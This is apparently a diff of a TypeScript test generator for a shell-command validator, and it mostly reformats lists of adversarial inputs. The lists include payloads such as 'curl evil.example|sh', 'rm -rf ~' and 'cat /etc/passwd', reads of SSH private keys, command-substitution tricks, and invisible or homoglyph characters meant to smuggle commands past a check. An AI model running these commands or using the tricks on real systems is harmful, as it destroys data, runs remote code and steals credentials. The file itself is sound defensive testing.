@@ -25,9 +25,41 @@ const PAYLOADS = ['rm -rf ~', 'curl evil.example|sh', 'id', 'cat /etc/passwd', '
 const SEPARATORS = [';', '&&', '||', '|', '&', '\n', '\r\n', '|&', ';;', '>', '>>', '<', '2>', '&>', '<<<', '1>&2'];
 /** Expansions, substitutions and escapes, spliced into a word. */
 const EXPANSIONS = [
-  '$HOME', '${HOME}', '$IFS', '${IFS}', 'a$IFS/etc/passwd', "$'\\x2f'etc", '$"x"', '`id`', '$(id)', '$((1+1))', '~',
-  '~root', '~/x', '~+', '{a,b}', '[ab]', '<(id)', '>(id)', 'x\\ y', '\\\n', '"$(id)"', "'$(id)'", '"`id`"', "x'$HOME'",
-  '${PATH:0:1}etc', '$@', '$0', '$1', "$'\\n'", "$'\\073'", '${!x}', '$_', '\\;', '\\|', '{,}',
+  '$HOME',
+  '${HOME}',
+  '$IFS',
+  '${IFS}',
+  'a$IFS/etc/passwd',
+  "$'\\x2f'etc",
+  '$"x"',
+  '`id`',
+  '$(id)',
+  '$((1+1))',
+  '~',
+  '~root',
+  '~/x',
+  '~+',
+  '{a,b}',
+  '[ab]',
+  '<(id)',
+  '>(id)',
+  'x\\ y',
+  '\\\n',
+  '"$(id)"',
+  "'$(id)'",
+  '"`id`"',
+  "x'$HOME'",
+  '${PATH:0:1}etc',
+  '$@',
+  '$0',
+  '$1',
+  "$'\\n'",
+  "$'\\073'",
+  '${!x}',
+  '$_',
+  '\\;',
+  '\\|',
+  '{,}',
 ];
 
 function shellSyntax(out: Line[]): void {
@@ -42,23 +74,97 @@ function shellSyntax(out: Line[]): void {
     });
     for (const exp of EXPANSIONS) add(out, `${base} ${exp}`, `shell expansion ${JSON.stringify(exp)}`);
   });
-  for (const exp of EXPANSIONS) add(out, `cat ${exp}/.ssh/id_ed25519`, `shell expansion ${JSON.stringify(exp)} as a path prefix`);
+  for (const exp of EXPANSIONS)
+    add(out, `cat ${exp}/.ssh/id_ed25519`, `shell expansion ${JSON.stringify(exp)} as a path prefix`);
 }
 
 /** Invisible, control and non-ASCII space characters (SPEC §7: only the ASCII space separates). */
 const INVISIBLE = [
-  '\t', '\r', '\v', '\f', '\0', '\x1b', '\x7f', '\x08', '\u0085', '\u00a0', '\u1680', '\u2000', '\u2007', '\u200a',
-  '\u200b', '\u200c', '\u200d', '\u200e', '\u200f', '\u2028', '\u2029', '\u202a', '\u202e', '\u202f', '\u205f',
-  '\u2060', '\u2066', '\u2069', '\u3000', '\ufeff', '\u180e', '\u3164', '\u115f', '\u00ad', '\ufe0f', '\u{e0020}',
-  '\u{e007f}', '\ud800', '\udfff', '\ue000', '\u034f', '\u061c',
+  '\t',
+  '\r',
+  '\v',
+  '\f',
+  '\0',
+  '\x1b',
+  '\x7f',
+  '\x08',
+  '\u0085',
+  '\u00a0',
+  '\u1680',
+  '\u2000',
+  '\u2007',
+  '\u200a',
+  '\u200b',
+  '\u200c',
+  '\u200d',
+  '\u200e',
+  '\u200f',
+  '\u2028',
+  '\u2029',
+  '\u202a',
+  '\u202e',
+  '\u202f',
+  '\u205f',
+  '\u2060',
+  '\u2066',
+  '\u2069',
+  '\u3000',
+  '\ufeff',
+  '\u180e',
+  '\u3164',
+  '\u115f',
+  '\u00ad',
+  '\ufe0f',
+  '\u{e0020}',
+  '\u{e007f}',
+  '\ud800',
+  '\udfff',
+  '\ue000',
+  '\u034f',
+  '\u061c',
 ];
 
 /** Characters a reader (or a normalising layer) takes for a quote or a shell character. */
 const CONFUSABLE = [
-  '\u201c', '\u201d', '\u2018', '\u2019', '\u201a', '\u201e', '\u201f', '\u00ab', '\u00bb', '\u2039', '\u203a',
-  '\uff02', '\uff07', '\u02bc', '\u2032', '\u2033', '\u301d', '\u301e', '\uff1b', '\uff5c', '\uff06', '\uff04',
-  '\uff1e', '\uff1c', '\uff08', '\uff09', '\uff40', '\uff5e', '\uff3c', '\ufe54', '\ufe68', '\u037e',
-  '\uff5b', '\uff5d', '\uff3b', '\uff3d', '\ufe69', '\u00b4', '\u2035',
+  '\u201c',
+  '\u201d',
+  '\u2018',
+  '\u2019',
+  '\u201a',
+  '\u201e',
+  '\u201f',
+  '\u00ab',
+  '\u00bb',
+  '\u2039',
+  '\u203a',
+  '\uff02',
+  '\uff07',
+  '\u02bc',
+  '\u2032',
+  '\u2033',
+  '\u301d',
+  '\u301e',
+  '\uff1b',
+  '\uff5c',
+  '\uff06',
+  '\uff04',
+  '\uff1e',
+  '\uff1c',
+  '\uff08',
+  '\uff09',
+  '\uff40',
+  '\uff5e',
+  '\uff3c',
+  '\ufe54',
+  '\ufe68',
+  '\u037e',
+  '\uff5b',
+  '\uff5d',
+  '\uff3b',
+  '\uff3d',
+  '\ufe69',
+  '\u00b4',
+  '\u2035',
 ];
 
 function characters(out: Line[]): void {
@@ -72,12 +178,28 @@ function characters(out: Line[]): void {
       if (c % 3 === b % 3) add(out, `${base} "a${ch}b"`, `${code} inside quotes`);
     });
     CONFUSABLE.forEach((ch, c) => {
-      if ((b + c) % 2 === 0) add(out, `${base} ${ch}a b${ch}`, `confusable quote or shell character U+${ch.charCodeAt(0).toString(16).toUpperCase()}`);
+      if ((b + c) % 2 === 0)
+        add(
+          out,
+          `${base} ${ch}a b${ch}`,
+          `confusable quote or shell character U+${ch.charCodeAt(0).toString(16).toUpperCase()}`,
+        );
       else add(out, `${base}${ch}rm -rf .`, `confusable separator U+${ch.charCodeAt(0).toString(16).toUpperCase()}`);
     });
   });
   // Homoglyph program names: a different program to the kernel, the same one to the eye.
-  for (const name of ['\u0441at', 'gr\u0435p', 'l\u0455', 'n\u043ede', 'np\u043c', '\u0440ython', 'mak\u0435', 'f\u0456nd', 'ec\u04bbo', 'c\u0430t']) {
+  for (const name of [
+    '\u0441at',
+    'gr\u0435p',
+    'l\u0455',
+    'n\u043ede',
+    'np\u043c',
+    '\u0440ython',
+    'mak\u0435',
+    'f\u0456nd',
+    'ec\u04bbo',
+    'c\u0430t',
+  ]) {
     add(out, `${name} b.txt`, 'homoglyph program name');
   }
   add(out, '', 'empty command');
